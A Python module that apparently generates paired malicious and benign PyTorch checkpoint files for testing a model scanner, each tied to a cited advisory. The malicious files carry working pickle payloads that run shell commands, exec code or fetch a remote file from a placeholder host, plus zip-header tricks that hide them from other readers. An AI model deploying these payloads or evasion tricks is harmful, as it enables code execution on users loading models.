"""Torch: calls of torch itself, zips that torch reads and others do not, checkpoints of several files."""

from __future__ import annotations

import contextlib
import io
import struct
import zipfile

from assembly import build, call, dot, glob, model, new, pickle
from eighth.kit import HOST
from pair import CODE, SHELL
from seventh.kit import floats, second, state, torch_zip, zipped


def flags(data: bytes, name: bytes, bits: int) -> bytes:
    """`data` (a zip) with general purpose `bits` set for the member `name`, in both headers."""
    out = bytearray(data)
    for magic, at, length, start in ((b"PK\3\4", 6, 26, 30), (b"PK\1\2", 8, 28, 46)):
        here = -1
        while (here := data.find(magic, here + 1)) >= 0:
            size = struct.unpack_from("<H", data, here + length)[0]
            if data[here + start : here + start + size] == name:
                struct.pack_into("<H", out, here + at, struct.unpack_from("<H", data, here + at)[0] | bits)
    return bytes(out)


def checksum(data: bytes, name: bytes) -> bytes:
    """`data` (a zip) with a false CRC for the member `name`, in both headers."""
    out = bytearray(data)
    for magic, at, length, start in ((b"PK\3\4", 14, 26, 30), (b"PK\1\2", 16, 28, 46)):
        here = -1
        while (here := data.find(magic, here + 1)) >= 0:
            size = struct.unpack_from("<H", data, here + length)[0]
            if data[here + start : here + start + size] == name:
                out[here + at] ^= 0x55
    return bytes(out)


def exported(expression: str) -> bytes:
    """A program of torch.export with a dynamic batch, an expression of which is replaced."""
    import torch

    net = torch.nn.Linear(4, 2)
    with torch.no_grad():
        net.weight.fill_(0.5), net.bias.fill_(0.25)
    batch = torch.export.Dim("batch", min=2, max=64)
    program = torch.export.export(net, (torch.ones(3, 4),), dynamic_shapes=({0: batch},))
    buffer = io.BytesIO()
    torch.export.save(program, buffer)
    members = []
    with zipfile.ZipFile(buffer) as z:
        for info in z.infolist():
            data = z.read(info)
            if info.filename.endswith(".json"):
                import json

                text = json.loads(data)

                def walk(node, done=[]):  # noqa: B006
                    if isinstance(node, dict):
                        if "expr_str" in node and not done:
                            node["expr_str"] = expression.replace("@", node["expr_str"])
                            done.append(1)
                        node = list(node.values())
                    for child in node if isinstance(node, list) else ():
                        walk(child)

                walk(text)
                data = json.dumps(text, separators=(",", ":")).encode()
            members.append((info.filename, data))
    return zipped(members)


def add(out):
    def one(name, hostile, twin, file="model.pt", why="", prove="torch"):
        out.add("torch", name, hostile, twin, prove, file, why)

    def file(*extra):
        return torch_zip(second(pickle(state(*extra))))

    def fourth(*extra):  # dotted names need protocol 4
        return torch_zip(pickle(state(*extra)))

    plain = file(("note", "step 3"))
    one(
        "shape_guards_evaluate_a_text",
        fourth(
            (
                "guards",
                call(
                    dot("torch.fx.experimental.symbolic_shapes", "ShapeEnv.evaluate_guards_expression"),
                    None,
                    f"__import__('os').system('{SHELL}')",
                    [],
                ),
            )
        ),
        fourth(("guards", "L['x'].size()[0] >= 2")),
        why="GHSA: ShapeEnv.evaluate_guards_expression evaluates its argument",
    )
    one(
        "unsupported_operators_execute",
        file(("ops", call(glob("torch.jit.unsupported_tensor_ops", "execWrapper"), CODE, {}, {}))),
        file(("ops", call(glob("torch", "Size"), [4, 8]))),
        why="GHSA: execWrapper is exec",
    )
    inner = pickle(call(dot("code", "InteractiveInterpreter.runsource"), call(glob("code", "InteractiveInterpreter")), CODE))
    one(
        "configuration_module_loads_a_pickle",
        fourth(("config", call(dot("torch.utils._config_module", "ConfigModule.load_config"), call(glob("argparse", "Namespace")), inner))),
        fourth(("config", pickle({"max_autotune": False}))),
        why="GHSA: ConfigModule.load_config is pickle.loads of bytes that the outer pickle carries",
    )
    one(
        "false_checksum",
        checksum(file(("note", call(glob("pydoc", "pipepager"), "x", SHELL))), b"archive/data.pkl"),
        plain,
        why="CVE-2025-10156: torch does not check the CRC, readers that do give up",
    )
    odd = torch_zip(second(pickle(state(("note", call(glob("pydoc", "pipepager"), "x", SHELL))))), "archive").replace(
        b"archive/", b"ar\xffhive/"
    )
    for name in (b"data.pkl", b"byteorder", b"data/0", b"data/1", b"version"):
        odd = flags(odd, b"ar\xffhive/" + name, 0x800)
    one(
        "names_are_not_the_text_their_flag_says",
        odd,
        plain,
        why="as CVE-2025-1945: a flag bit makes readers fail to decode the names, torch takes them as bytes",
    )
    one(
        "distributed_checkpoint_metadata",
        {
            ".metadata": pickle({"state_dict_metadata": {}, "planner_data": call(glob("profile", "run"), CODE), "storage_data": {}}),
            "__0_0.distcp": floats(64),
        },
        {
            ".metadata": pickle({"state_dict_metadata": {}, "planner_data": {"fc.weight": 1}, "storage_data": {}}),
            "__0_0.distcp": floats(64),
        },
        why="torch.distributed.checkpoint unpickles .metadata",
        prove="pickle",
    )
    with contextlib.suppress(ModuleNotFoundError):  # torch itself writes this one; without it the set has one pair less
        one(
            "exported_program_expression",
            exported("__import__('os').system('touch marker') or @"),
            exported("@"),
            "model.pt2",
            "torch.export.load gives the text of a symbolic size to sympy, which evaluates it",
            "torch.export",
        )
    one(
        "weights_fetched_while_loading",
        file(("backbone", call(glob("torch.hub", "load_state_dict_from_url"), f"http://{HOST}/backbone.pth", "."))),
        file(("backbone", f"http://{HOST}/backbone.pth")),
        why="the pickle has torch fetch and unpickle a second file",
        prove="torch.offline",
    )
    one(
        "optimizer_with_a_second_stream",
        {
            "optimizer.pt": pickle({"state": {}, "step": 3})
            + pickle(model(call(glob("numpy.testing._private.utils", "runstring"), CODE, {})))
        },
        {"optimizer.pt": pickle({"state": {}, "step": 3}) + pickle(model(build(new(glob("argparse", "Namespace")), {"lr": 0.1})))},
        why="GHSA: runstring is exec; the first of two streams is harmless",
        prove="pickle",
    )
